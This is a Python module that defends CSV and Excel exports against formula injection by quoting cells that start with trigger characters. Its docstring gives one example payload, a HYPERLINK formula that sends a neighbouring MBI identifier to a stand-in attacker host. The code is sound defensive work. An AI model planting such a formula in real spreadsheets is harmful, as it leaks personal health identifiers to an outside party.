"""CSV and Excel exports that a spreadsheet cannot execute (formula injection, OWASP "CSV Injection").

A text cell that starts with ``=``, ``+``, ``-``, ``@``, TAB or CR is read by Excel, LibreOffice and Google Sheets
as a formula: an enrollee name ``=HYPERLINK("http://evil.example/?d="&C2,"x")`` in an audit universe would send
the neighbouring MBI away when the file is opened. Every CSV and Excel writer of partcd passes its cells through
:func:`safe_cell`, the one neutraliser: such a text gets a leading single quote (OWASP's recommendation; the
spreadsheet then shows it as text). Numbers stay numbers, including negative ones, and so does a text that is only
a decimal number (``-3``, ``+1.5``, ``-2e3``): it cannot be a formula. In ``.xlsx`` files every text is also
written as a string cell (:func:`xlsx_row`), never as a formula cell, whatever it starts with.

Helpers: :func:`safe_row` (a dict of cells), :func:`safe_table` (the text columns of an Arrow table, for
writers that go through Arrow), :func:`xlsx_row` (append one row to an openpyxl worksheet).
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Mapping
from typing import TYPE_CHECKING, Any, TypeVar

if TYPE_CHECKING:
    import pyarrow as pa

#: The first characters that make a spreadsheet evaluate a cell (OWASP CSV Injection).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
#: A text that is only a decimal number (it starts with + or - but is read as a number, never as a formula).
NUMBER_PATTERN = r"^[+-]?([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][+-]?[0-9]+)?$"
_NUMBER = re.compile(NUMBER_PATTERN)
_TRIGGER_PATTERN = "^[=+\\-@\t\r]"

V = TypeVar("V")


def safe_cell(value: V) -> V | str:
    """``value`` as a spreadsheet shows it without executing it: a text that starts with a formula trigger gets a
    leading ``'``; numbers, dates, None and plain numeric texts are returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS) and not _NUMBER.match(value):
        return "'" + value
    return value


def safe_row(row: Mapping[str, V]) -> dict[str, V | str]:
    """Every cell of a row (e.g. for ``csv.DictWriter``) through :func:`safe_cell`."""
    return {key: safe_cell(value) for key, value in row.items()}


def safe_table(table: pa.Table) -> pa.Table:
    """The Arrow table with every text column (plain, large or dictionary-encoded) through :func:`safe_cell`,
    computed by Arrow column by column (nulls stay null; columns without a trigger are left untouched)."""
    import pyarrow as pa
    import pyarrow.compute as pc

    columns: list[Any] = []
    for field, column in zip(table.schema, table.columns, strict=True):
        kind = field.type
        if pa.types.is_dictionary(kind) and (pa.types.is_string(kind.value_type) or pa.types.is_large_string(kind.value_type)):
            column = column.cast(kind.value_type)
            kind = kind.value_type
        if pa.types.is_string(kind) or pa.types.is_large_string(kind):
            risky = pc.and_kleene(pc.match_substring_regex(column, _TRIGGER_PATTERN),
                                  pc.invert(pc.match_substring_regex(column, NUMBER_PATTERN)))
            if pc.any(risky).as_py():
                column = pc.if_else(risky, pc.binary_join_element_wise(pa.scalar("'", kind), column, pa.scalar("", kind)),
                                    column)
        columns.append(column)
    return pa.Table.from_arrays(columns, names=table.column_names)


def xlsx_row(worksheet: Any, values: Iterable[object]) -> None:
    """Append one row to an openpyxl worksheet: texts through :func:`safe_cell` and typed as strings (openpyxl
    would otherwise store a text starting with ``=`` as a formula); numbers, booleans and dates keep their type."""
    worksheet.append([safe_cell(value) for value in values])
    for cells in worksheet.iter_rows(min_row=worksheet.max_row, max_row=worksheet.max_row):
        for cell in cells:
            if isinstance(cell.value, str):
                cell.data_type = "s"
